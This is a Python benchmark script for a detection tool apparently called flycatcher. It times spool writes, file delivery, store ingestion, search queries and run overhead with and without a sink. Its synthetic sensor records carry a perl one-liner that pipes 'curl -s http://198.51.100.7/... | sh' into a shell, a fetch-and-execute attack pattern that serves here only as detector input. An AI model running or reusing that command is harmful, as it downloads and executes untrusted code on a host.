"""What sinks cost: the spool and the store in records a second, and a run with a sink against one without.

python -m bench.bench_sinks [--postgresql ADDRESS]
"""

from __future__ import annotations

import statistics
import subprocess
import sys
import tempfile
import time
from functools import partial
from pathlib import Path
from typing import TYPE_CHECKING

from flycatcher.core.detection import detect
from flycatcher.core.execution import Execution, Fidelity, Process
from flycatcher.destination import Destination, SpoolSettings
from flycatcher.reporting import record_of
from flycatcher.sinks.delivery.spool import Spool
from flycatcher.sinks.delivery.spooled import Spooled
from flycatcher.sinks.message import event_of
from flycatcher.sinks.store import retention, search
from flycatcher.sinks.store.database import open_store
from flycatcher.sinks.store.ingest import ingest

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from flycatcher.sinks import Record
    from flycatcher.sinks.message import Event

RECORDS = 20_000
TEXTS = 500
"""Different texts among them."""
ROUNDS = 7


def records(count: int) -> Iterator[Record]:
    """Yield records as a sensor's, of so many different texts."""
    made = []
    for number in range(TEXTS):
        execution = Execution(
            argv=("perl", "-e", f"system('curl -s http://198.51.100.7/{number} | sh')"),
            env={"PATH": "/usr/bin", "HOME": "/root", "LANG": "C.UTF-8"},
            process=Process(pid=1, comm="perl", uid=1000, gid=1000),
            ancestry=(Process(pid=2, comm="make", argv=("make", "-j2")),),
            fidelity=Fidelity(sensor="ebpf", time="2026-11-29T10:00:00.000000Z"),
            context={"host.name": f"host-{number % 20}"},
        )
        found = detect(execution)
        if found is not None:
            made.append(record_of(found))
    for number in range(count):
        record = made[number % len(made)]
        yield record | {"execution": record["execution"] | {"process": {"pid": number}}}


def timed(work: Callable[[], object]) -> float:
    """Return how long something takes."""
    began = time.perf_counter()
    work()
    return time.perf_counter() - began


def rates(count: int, work: Callable[[], object]) -> str:
    """Return records a second, by the clock and by this process's own processor time: the second holds on a busy machine as well."""
    began, used = time.perf_counter(), time.process_time()
    work()
    return f"{count / (time.perf_counter() - began):,.0f} records/s, {count / (time.process_time() - used):,.0f} a processor second"


def spool(folder: Path, ready: list[Record]) -> None:
    """Measure the spool: with one sink and with four, a transaction a record."""
    for sinks in (1, 4):
        with Spool(str(folder / f"spool-{sinks}.db")) as kept:
            print(f"spool, {sinks} sink(s): {rates(len(ready), partial(_add_all, kept, ready, sinks))}")


def _add_all(kept: Spool, ready: list[Record], sinks: int) -> None:
    names = [f"sink-{number}" for number in range(sinks)]
    for record in ready:
        kept.add(event_of(record), names)


def delivery(folder: Path, ready: list[Record]) -> None:
    """Measure from the first record written to the last one in a file."""
    out = folder / "out.jsonl"
    spooled = Spooled(
        str(folder / "d.db"), [Destination(name="out", to=f"file:{out}", batch=1000)], SpoolSettings(wait=120)
    )
    spooled.open()
    spooled.deliver()
    began = time.perf_counter()
    slowest = 0.0
    for record in ready:
        slowest = max(slowest, timed(partial(spooled.write, record)))
    written = time.perf_counter() - began
    spooled.close({"executions_seen": 0, "lost": 0, "detections": 0})
    print(f"written while delivered: {len(ready) / written:,.0f} records/s, the slowest {slowest * 1000:.1f} ms")
    print(f"delivered to a file: {len(ready) / (time.perf_counter() - began):,.0f} records/s")


def store(address: str, ready: list[Event]) -> None:
    """Measure a store."""
    engine = open_store(address)
    name = engine.dialect.name
    for what in ("imported", "imported again, all known"):
        print(f"store, {name}, {what}: {rates(len(ready), partial(ingest, engine, ready))}")
    for query in ("", "level>=high host:host-1* since:3650d", 'text~"curl"', "capability:network.*"):
        times = [timed(partial(search.page, engine, query)) for _ in range(ROUNDS)]
        print(f"store, {name}: a page of {query or 'all'!r}: {statistics.median(times) * 1000:.1f} ms")
    print(f"store, {name}: {retention.size(engine) / len(ready):,.0f} bytes a record")
    engine.dispose()


def run(folder: Path) -> None:
    """Measure a run of many one-liners, with and without a sink."""
    words = [sys.executable, "-m", "flycatcher", "run", "-q", "--spool", str(folder / "r.db"), "--sink"]
    command = ["--", "sh", "-c", "for i in $(seq 100); do perl -e 1; done"]
    for sink in ("none", f"file:{folder}/run.jsonl"):
        times = [
            timed(partial(subprocess.run, [*words, sink, *command], check=True, capture_output=True))
            for _ in range(ROUNDS)
        ]
        print(f"run of 100 one-liners, sink {sink.partition(':')[0]}: {statistics.median(times):.2f} s")


def main() -> None:
    """Print all figures."""
    ready = list(records(RECORDS))
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        spool(folder, ready)
        delivery(folder, ready)
        events = list(map(event_of, ready))
        store(f"store://{folder}/store.db", events)
        if "--postgresql" in sys.argv:
            store(sys.argv[sys.argv.index("--postgresql") + 1], events)
        run(folder)


if __name__ == "__main__":
    main()
